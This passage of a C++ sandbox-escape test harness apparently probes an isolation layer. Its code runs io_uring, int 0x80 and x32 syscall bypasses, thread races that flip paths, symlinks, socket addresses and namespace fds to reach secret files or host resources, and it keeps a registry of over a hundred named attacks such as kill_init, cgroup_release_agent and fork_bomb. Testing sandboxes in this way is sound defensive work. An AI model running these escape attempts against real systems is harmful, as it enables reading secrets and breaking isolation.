  report("io_uring_enter", syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0));
  auto* chead = reinterpret_cast<std::atomic<unsigned>*>(cq + p.cq_off.head);
  auto* cmask = reinterpret_cast<unsigned*>(cq + p.cq_off.ring_mask);
  auto* cqes = reinterpret_cast<io_uring_cqe*>(cq + p.cq_off.cqes);
  int res = cqes[chead->load() & *cmask].res;
  if (res < 0) {
    errno = -res;
    report("uring-openat", -1);
    return;
  }
  report("uring-openat", res);
  std::string s = read_fd(res);
  note("content", escaped(s.data(), s.size()));
}

// The i386 entry point (int 0x80) from a 64-bit process; numbers are i386's.
long int80(long nr, long b, long c, long d) {
  long ret;
  asm volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(b), "c"(c), "d"(d) : "memory", "r8", "r9", "r10", "r11");
  return ret;
}
long as_errno(long r) {
  if (r < 0 && r > -4096) {
    errno = -r;
    return -1;
  }
  return r;
}
void int80_kill(const Args& a) {
  long v = arg_long(a, 0);
  in_child("int80", [&] { report("i386-kill-SIGKILL", as_errno(int80(37, v, SIGKILL, 0))); });
}
void int80_open(const Args& a) {
  std::string path = arg_str(a, 0);
  in_child("int80", [&] {
    auto* low =
        static_cast<char*>(mmap(nullptr, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
    if (low == MAP_FAILED) return (void)report("mmap-32bit", -1);
    snprintf(low, 4096, "%s", path.c_str());
    long fd = report("i386-open", as_errno(int80(5, reinterpret_cast<long>(low), O_RDONLY, 0)));
    if (fd < 0) return;
    long n = report("i386-read", as_errno(int80(3, fd, reinterpret_cast<long>(low + 4096), 4096)));
    if (n > 0) note("content", escaped(low + 4096, n));
  });
}

// x32 numbers (bit 30 set).
constexpr long kX32 = 0x40000000;
void x32_kill(const Args& a) {
  long v = arg_long(a, 0);
  in_child("x32", [&] { report("x32-kill-SIGKILL", syscall(kX32 | SYS_kill, v, SIGKILL)); });
}
void x32_open(const Args& a) {
  std::string path = arg_str(a, 0);
  in_child("x32", [&] {
    long fd = report("x32-open", syscall(kX32 | SYS_open, path.c_str(), O_RDONLY));
    if (fd < 0) return;
    char buf[512];
    long n = report("x32-read", syscall(kX32 | SYS_read, fd, buf, sizeof buf));
    if (n > 0) note("content", escaped(buf, n));
  });
}

// ===========================================================================
// Thread races: a second thread flips the argument while the call is in
// flight. Every outcome is tallied; the first few unexpected ones are shown.

// One open of `path` for a race: tallies the errno, or whether the bytes read
// are the allowed file's (`want`) or another's (shown, the first few times).
void open_and_tally(const char* path, const std::string& want, Tally* t, int* shown) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    t->add(err_name(errno));
    return;
  }
  std::string s = read_fd(fd, 256);
  close(fd);
  if (s == want) {
    t->add("ok-allowed");
  } else {
    t->add("ok-OTHER");
    if ((*shown)++ < 3) note("read-other", escaped(s.data(), s.size()));
  }
}

// open(2) of a path flipping between ALLOWED and SECRET; any content that is
// not ALLOWED's is printed.
void race_open_read(const Args& a) {
  std::string allowed = arg_str(a, 0), secret = arg_str(a, 1);
  long n = iterations(a, 2);
  std::string want;
  {
    int fd = open(allowed.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd >= 0) want = read_fd(fd), close(fd);
  }
  Tally t;
  int shown = 0;
  {
    Flipper f({allowed, secret});
    for (long i = 0; i < n; ++i) open_and_tally(f.data(), want, &t, &shown);
    t.flips = static_cast<int64_t>(f.flips());
  }
  note("tally", t.str());
}

// open(O_WRONLY) of a path flipping between ALLOWED and a read-only host file,
// then a write (judged: the host file is unchanged).
void race_open_write(const Args& a) {
  std::string allowed = arg_str(a, 0), ro = arg_str(a, 1);
  long n = iterations(a, 2);
  Tally t;
  {
    Flipper f({allowed, ro});
    for (long i = 0; i < n; ++i) {
      int fd = open(f.data(), O_WRONLY | O_CLOEXEC);
      if (fd < 0) {
        t.add(err_name(errno));
        continue;
      }
      t.add(write(fd, "W", 1) == 1 ? "written" : "write-failed");
      close(fd);
    }
    t.flips = static_cast<int64_t>(f.flips());
  }
  note("tally", t.str());
}

// A symlink in the working directory swapped (RENAME_EXCHANGE) between one
// to ALLOWED and one to SECRET while the main thread opens it.
void race_symlink(const Args& a) {
  std::string allowed = arg_str(a, 0), secret = arg_str(a, 1);
  long n = iterations(a, 2);
  unlink("cur");
  unlink("other");
  if (report("symlink-allowed", symlink(allowed.c_str(), "cur")) < 0) return;
  if (report("symlink-secret", symlink(secret.c_str(), "other")) < 0) return;
  std::string want;
  {
    int fd = open(allowed.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd >= 0) want = read_fd(fd), close(fd);
  }
  std::atomic<bool> stop{false};
  std::atomic<long> swaps{0}, swap_err{0};
  std::thread th([&] {
    while (!stop.load(std::memory_order_relaxed)) {
      if (syscall(SYS_renameat2, AT_FDCWD, "cur", AT_FDCWD, "other", 2 /*RENAME_EXCHANGE*/) == 0) {
        ++swaps;
      } else if (++swap_err > 1000) {
        break;
      }
    }
  });
  Tally t;
  int shown = 0;
  for (long i = 0; i < n; ++i) open_and_tally("cur", want, &t, &shown);
  stop = true;
  th.join();
  note("tally", t.str() + " swaps=" + std::to_string(swaps.load()) + " swap-errors=" + std::to_string(swap_err.load()));
}

// execve(2) of a path flipping between ALLOWED (an executable file the kernel
// rejects with ENOEXEC, so the loop goes on) and FORBIDDEN (a 0700 host-root
// script printing a secret). Runs in a child: a successful exec replaces it.
void race_execve(const Args& a) {
  std::string allowed = arg_str(a, 0), forbidden = arg_str(a, 1);
  long n = iterations(a, 2);
  pid_t p = fork();
  if (p == 0) {
    Tally t;
    {
      Flipper f({allowed, forbidden});
      char* argv[] = {f.data(), nullptr};
      char* envp[] = {nullptr};
      for (long i = 0; i < n; ++i) {
        syscall(SYS_execve, f.data(), argv, envp);
        t.add(err_name(errno));
      }
      t.flips = static_cast<int64_t>(f.flips());
    }
    note("tally", t.str());
    _exit(0);
  }
  int st = 0;
  waitpid(p, &st, 0);
  note("child", WIFEXITED(st) ? "exit " + std::to_string(WEXITSTATUS(st)) : "signal " + std::to_string(WTERMSIG(st)));
}

// connect(2) with an address flipping between [::1]:PORT (an allowed host
// listener), the host's abstract listener, and a path in /tmp; the socket is
// AF_INET6 and AF_UNIX on alternate iterations, and every other AF_INET6
// one connects by a TCP Fast Open sendto(MSG_FASTOPEN), whose address sentry
// translates like connect's.
void race_connect(const Args& a) {
  std::string abs_name = arg_str(a, 0);
  auto port = static_cast<uint16_t>(arg_long(a, 1));
  long n = iterations(a, 2);
  sockaddr_un un_abs;
  socklen_t len = abstract_addr(abs_name, &un_abs);
  if (len < sizeof(sockaddr_in6)) return note("setup", "abstract name too short");
  sockaddr_in6 in6{};
  in6.sin6_family = AF_INET6;
  in6.sin6_port = htons(port);
  in6.sin6_addr = in6addr_loopback;
  sockaddr_un un_path{};
  un_path.sun_family = AF_UNIX;
  snprintf(un_path.sun_path, sizeof un_path.sun_path, "/tmp/hr.sock");
  auto bytes = [](const void* p, size_t n) { return std::string(static_cast<const char*>(p), n); };
  Tally t;
  {
    Flipper f({bytes(&in6, sizeof in6), bytes(&un_abs, sizeof un_abs), bytes(&un_path, sizeof un_path)});
    for (long i = 0; i < n; ++i) {
      int fam = (i & 1) ? AF_UNIX : AF_INET6;
      int s = socket(fam, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
      if (s < 0) {
        t.add(std::string("socket-") + err_name(errno));
        continue;
      }
      const bool tfo = fam == AF_INET6 && (i & 2);
      const long r = tfo ? sendto(s, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, reinterpret_cast<sockaddr*>(f.data()), len)
                         : connect(s, reinterpret_cast<sockaddr*>(f.data()), len);
      t.add(std::string(fam == AF_UNIX ? "unix-" : tfo ? "inet6-tfo-" : "inet6-") + (r >= 0 ? "ok" : err_name(errno)));
      close(s);
    }
    t.flips = static_cast<int64_t>(f.flips());
  }
  note("tally", t.str());
}

// sendto(2) on a unix and an inet6 datagram socket (alternately) with an
// address flipping between the host's abstract datagram listener, a /tmp
// path and [::1]:9.
void race_sendto(const Args& a) {
  std::string abs_name = arg_str(a, 0);
  long n = iterations(a, 1);
  // Not the lo sniffer's marker: the [::1] datagrams are allowed; what must
  // not happen is a datagram reaching the host's abstract listener.
  std::string m = "HOSTILE-RACE-" + arg_str(a, 2);
  sockaddr_un un_abs;
  socklen_t len = abstract_addr(abs_name, &un_abs);
  if (len < sizeof(sockaddr_in6)) return note("setup", "abstract name too short");
  sockaddr_in6 in6{};
  in6.sin6_family = AF_INET6;
  in6.sin6_port = htons(9);
  in6.sin6_addr = in6addr_loopback;
  sockaddr_un un_path{};
  un_path.sun_family = AF_UNIX;
  snprintf(un_path.sun_path, sizeof un_path.sun_path, "/tmp/hr.sock");
  auto bytes = [](const void* p, size_t n) { return std::string(static_cast<const char*>(p), n); };
  int su = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  int s6 = socket(AF_INET6, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  Tally t;
  {
    Flipper f({bytes(&un_path, sizeof un_path), bytes(&un_abs, sizeof un_abs), bytes(&in6, sizeof in6)});
    for (long i = 0; i < n; ++i) {
      int s = (i & 1) ? s6 : su;
      ssize_t r = sendto(s, m.data(), m.size(), 0, reinterpret_cast<sockaddr*>(f.data()), len);
      t.add(std::string(s == su ? "unix-" : "inet6-") + (r >= 0 ? "ok" : err_name(errno)));
    }
    t.flips = static_cast<int64_t>(f.flips());
  }
  note("tally", t.str());
}

// bind(2) of a unix socket with an address flipping between a relative path
// and an abstract NAME. Sockets that end up with the abstract name are kept
// open for 1.5 s while the host looks for NAME in its /proc/net/unix.
// setns(fd, 0): sentry looks at what fd is (a UTS namespace the guest made
// may be joined) before the host joins "fd" again, so sentry's look is not
// the boundary: the kernel's ownership rule is. Another thread keeps putting
// the sandbox's mount, user, network and PID namespaces (owned by the host's
// user namespace) at that number; the host must refuse every one
// (EPERM/EINVAL in the tally show the race reached it). Guest-reported: a
// namespace other than UTS changed; judged from the host: its hostname
// (sethostname after each join) and mount table.
void race_setns(const Args& a) {
  std::string name = arg_str(a, 0);
  long n = iterations(a, 1);
  int ready[2];
  if (pipe(ready) != 0) return note("pipe", err_name(errno));
  pid_t child = fork();
  if (child == 0) {  // a UTS namespace of the guest's own, to be joined
    char c = unshare(CLONE_NEWUTS) == 0 ? 'u' : 'x';
    (void)!write(ready[1], &c, 1);
    for (;;) pause();
  }
  char c = 0;
  (void)!read(ready[0], &c, 1);
  note("own-uts", c == 'u' ? "ok" : "unshare-failed");
  auto ns_of = [](const char* kind) {
    struct stat st {};
    return stat((std::string("/proc/self/ns/") + kind).c_str(), &st) == 0 ? st.st_ino : 0;
  };
  const ino_t mnt0 = ns_of("mnt"), user0 = ns_of("user"), net0 = ns_of("net"), pid0 = ns_of("pid_for_children");
  std::vector<int> variants = {open(("/proc/" + std::to_string(child) + "/ns/uts").c_str(), O_RDONLY | O_CLOEXEC),
                               open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC),
                               open("/proc/self/ns/user", O_RDONLY | O_CLOEXEC),
                               open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC),
                               open("/proc/self/ns/pid", O_RDONLY | O_CLOEXEC)};
  std::string opened;
  for (int v : variants) opened += v >= 0 ? "y" : "n";
  note("opened", opened);
  const int slot = 100;
  dup2(variants[0], slot);
  std::atomic<bool> stop{false};
  std::atomic<uint64_t> flips{0};
  std::thread swapper([&] {
    uint64_t x = 0x9e3779b97f4a7c15ull;
    while (!stop.load(std::memory_order_relaxed)) {
      x ^= x << 13;
      x ^= x >> 7;
      x ^= x << 17;
      if (int v = variants[x % variants.size()]; v >= 0) dup2(v, slot);
      flips.fetch_add(1, std::memory_order_relaxed);
      for (unsigned spin = (x >> 32) & 255; spin; --spin) asm volatile("pause" ::: "memory");
    }
  });
  Tally t;
  for (long i = 0; i < n; ++i) {
    if (setns(slot, 0) != 0) {
      t.add(err_name(errno));
      continue;
    }
    if (ns_of("mnt") != mnt0) t.add("joined-mnt");
    else if (ns_of("user") != user0) t.add("joined-user");
    else if (ns_of("net") != net0) t.add("joined-net");
    else if (ns_of("pid_for_children") != pid0) t.add("joined-pid");
    else t.add("ok-uts");
    if (sethostname(name.data(), name.size()) == 0) t.add("sethostname-ok");
  }
  stop.store(true);
  swapper.join();
  t.flips = static_cast<int64_t>(flips.load());
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  note("tally", t.str());
}

void race_bind(const Args& a) {
  std::string name = arg_str(a, 0);
  long n = iterations(a, 1);
  sockaddr_un un_abs;
  socklen_t len = abstract_addr(name, &un_abs);
  sockaddr_un un_path{};
  un_path.sun_family = AF_UNIX;
  snprintf(un_path.sun_path, sizeof un_path.sun_path, "rb.sock");
  auto bytes = [](const void* p, size_t n) { return std::string(static_cast<const char*>(p), n); };
  std::vector<int> kept;
  Tally t;
  {
    Flipper f({bytes(&un_path, sizeof un_path), bytes(&un_abs, sizeof un_abs)});
    for (long i = 0; i < n; ++i) {
      int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
      if (bind(s, reinterpret_cast<sockaddr*>(f.data()), len) != 0) {
        t.add(err_name(errno));
        close(s);
        continue;
      }
      sockaddr_un got{};
      socklen_t gl = sizeof got;
      getsockname(s, reinterpret_cast<sockaddr*>(&got), &gl);
      if (gl > offsetof(sockaddr_un, sun_path) && got.sun_path[0] == '\0') {
        t.add("ok-abstract");
        kept.push_back(s);
      } else {
        t.add("ok-path");
        unlink("rb.sock");
        close(s);
      }
    }
    t.flips = static_cast<int64_t>(f.flips());
  }
  note("tally", t.str());
  if (!kept.empty()) {
    for (int s : kept) listen(s, 1);
    say("READY");
    sleep_ms(1500);
  }
}

// ===========================================================================
// Internal helpers (not attacks).

void read_file_cmd(const Args& a) {
  note("ids", "uid=" + std::to_string(getuid()) + " euid=" + std::to_string(geteuid()));
  print_file("read", arg_str(a, 0));
}
void noop(const Args&) {}
// Sleeps MS milliseconds: the script reads the host uid of this process.
void sleep_cmd(const Args& a) { sleep_ms(arg_long(a, 0)); }

// ===========================================================================

struct Attack {
  const char* name;
  const char* category;
  void (*fn)(const Args&);
  bool internal = false;
};

const Attack kAttacks[] = {
    // signals
    {"signal0_victim", "signals", signal0_victim},
    {"kill_victim", "signals", kill_victim},
    {"tgkill_victim", "signals", tgkill_victim},
    {"tkill_victim", "signals", tkill_victim},
    {"pidfd_signal_victim", "signals", pidfd_signal_victim},
    {"sigqueue_victim", "signals", sigqueue_victim},
    {"kill_pgrp_victim", "signals", kill_pgrp_victim},
    {"fsetown_sigio", "signals", fsetown_sigio},
    {"kill_all_probe", "signals", kill_all_probe},
    {"kill_all", "signals", kill_all},
    {"kill_init", "signals", kill_init},
    // process access
    {"pidfd_getfd_victim", "process", pidfd_getfd_victim},
    {"vm_read_victim", "process", vm_read_victim},
    {"vm_write_victim", "process", vm_write_victim},
    {"ptrace_victim", "process", ptrace_victim},
    {"prio_victim", "process", prio_victim},
    {"prlimit_victim", "process", prlimit_victim},
    {"affinity_victim", "process", affinity_victim},
    {"clone_untraced", "process", clone_untraced},
    {"fork_bomb", "process", fork_bomb},
    // sentry itself
    {"sig_sentry", "sentry", sig_sentry},
    {"sig_sentry_pidfd", "sentry", sig_sentry_pidfd},
    {"stop_sentry", "sentry", stop_sentry},
    {"ptrace_sentry", "sentry", ptrace_sentry},
    {"pidfd_getfd_sentry", "sentry", pidfd_getfd_sentry},
    {"pidfd_getfd_init", "sentry", pidfd_getfd_init},
    {"vm_read_sentry", "sentry", vm_read_sentry},
    {"proc_sentry_environ", "sentry", proc_sentry_environ},
    {"own_fds", "sentry", own_fds},
    {"model_fs_stall", "sentry", model_fs_stall},
    // /proc and /sys
    {"proc_victim_environ", "proc", proc_victim_environ},
    {"proc_victim_fd", "proc", proc_victim_fd},
    {"proc_victim_mem", "proc", proc_victim_mem},
    {"proc_victim_cwd", "proc", proc_victim_cwd},
    {"proc_victim_cmdline", "proc", proc_victim_cmdline},
    {"proc_host_init", "proc", proc_host_init},
    {"proc_init_environ", "proc", proc_init_environ},
    {"proc_core_pattern", "proc", proc_core_pattern},
    {"proc_sysrq", "proc", proc_sysrq},
    {"sys_lo_mtu", "proc", sys_lo_mtu},
    {"cgroup_release_agent", "proc", cgroup_release_agent},
    // hostname / UTS
    {"sethostname", "uts", sethostname_attack},
    {"setdomainname", "uts", setdomainname_attack},
    {"proc_sys_hostname", "uts", proc_sys_hostname},
    {"setns_victim", "uts", setns_victim},
    // network
    {"raw_icmp", "network", raw_icmp},
    {"raw_icmpv6", "network", raw_icmpv6},
    {"packet_send", "network", packet_send},
    {"packet_sniff", "network", packet_sniff},
    {"abstract_connect", "network", abstract_connect},
    {"abstract_dgram", "network", abstract_dgram},
    {"abstract_bind", "network", abstract_bind},
    {"unix_path_host", "network", unix_path_host},
    {"netlink_diag_unix", "network", netlink_diag_unix},
    {"netlink_uevent", "network", netlink_uevent},
    {"netlink_audit", "network", netlink_audit},
    {"netlink_route_addr", "network", netlink_route_addr},
    {"ioctl_lo_mtu", "network", ioctl_lo_mtu},
    // keyrings
    {"keyctl_add", "keyrings", keyctl_add},
    {"keyctl_read_user", "keyrings", keyctl_read_user},
    {"keyctl_read_session", "keyrings", keyctl_read_session},
    // IPC
    {"sysv_shm", "ipc", sysv_shm},
    {"dev_shm_read", "ipc", dev_shm_read},
    {"dev_shm_write", "ipc", dev_shm_write},
    // credentials and file permissions
    {"read_secret", "creds", read_secret},
    {"setuid_own_file", "creds", setuid_own_file},
    {"setuid_host_file", "creds", setuid_host_file},
    {"setuid_regain", "creds", setuid_regain},
    {"setuid_exec", "creds", setuid_exec},
    {"chown_readonly", "creds", chown_readonly},
    {"chmod_readonly", "creds", chmod_readonly},
    {"hardlink_secret", "creds", hardlink_secret},
    {"suid_plant_cwd", "creds", suid_plant_cwd},
    {"suid_create_cwd", "creds", suid_create_cwd},
    {"suid_plant_tmp", "creds", suid_plant_tmp},
    {"tmp_read_root_secret", "creds", tmp_read_root_secret},
    {"tmp_write_root_file", "creds", tmp_write_root_file},
    // read-only host filesystem
    {"write_readonly", "rofs", write_readonly},
    {"unlink_readonly", "rofs", unlink_readonly},
    {"write_etc", "rofs", write_etc},
    {"write_usr", "rofs", write_usr},
    {"write_world_dir", "rofs", write_world_dir},
    // mount family
    {"mount_tmpfs", "mount", mount_tmpfs},
    {"umount_host", "mount", umount_host},
    {"remount_rw", "mount", remount_rw},
    {"bind_remount_rw", "mount", bind_remount_rw},
    {"newmount_api_rw", "mount", newmount_api_rw},
    {"unshare_remount", "mount", unshare_remount},
    {"pivot_root", "mount", pivot_root_attack},
    {"chroot_escape", "mount", chroot_escape},
    {"open_by_handle", "mount", open_by_handle},
    // device nodes
    {"dev_list", "dev", dev_list},
    {"dev_block", "dev", dev_block},
    {"dev_mknod", "dev", dev_mknod},
    {"dev_kmsg_read", "dev", dev_kmsg_read},
    {"dev_kmsg_write", "dev", dev_kmsg_write},
    {"syslog_read", "dev", syslog_read},
    // terminal
    {"tiocsti", "tty", tiocsti},
    {"tiocsti_devtty", "tty", tiocsti_devtty},
    // exotic ABIs
    {"io_uring", "abi", io_uring_attack},
    {"int80_kill", "abi", int80_kill},
    {"int80_open", "abi", int80_open},
    {"x32_kill", "abi", x32_kill},
    {"x32_open", "abi", x32_open},
    // thread races
    {"race_open_read", "race", race_open_read},
    {"race_open_write", "race", race_open_write},
    {"race_symlink", "race", race_symlink},
    {"race_execve", "race", race_execve},
    {"race_connect", "race", race_connect},
    {"race_sendto", "race", race_sendto},
    {"race_bind", "race", race_bind},
    {"race_setns", "race", race_setns},
    // internal
    {"read_file", "internal", read_file_cmd, true},
    {"noop", "internal", noop, true},
    {"sleep", "internal", sleep_cmd, true},
};

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: %s <attack> [args...] | list\n", argv[0]);
    return 2;
  }
  std::string name = argv[1];
  if (name == "list") {
    for (const Attack& at : kAttacks)
      if (!at.internal) printf("%s %s\n", at.name, at.category);
    return 0;
  }
  signal(SIGPIPE, SIG_IGN);
  for (const Attack& at : kAttacks) {
    if (name != at.name) continue;
    g_attack = name;
    at.fn(Args(argv + 2, argv + argc));
    say("END %s", at.name);
    return 0;
  }
  fprintf(stderr, "unknown attack %s (try: list)\n", name.c_str());
  return 2;
}
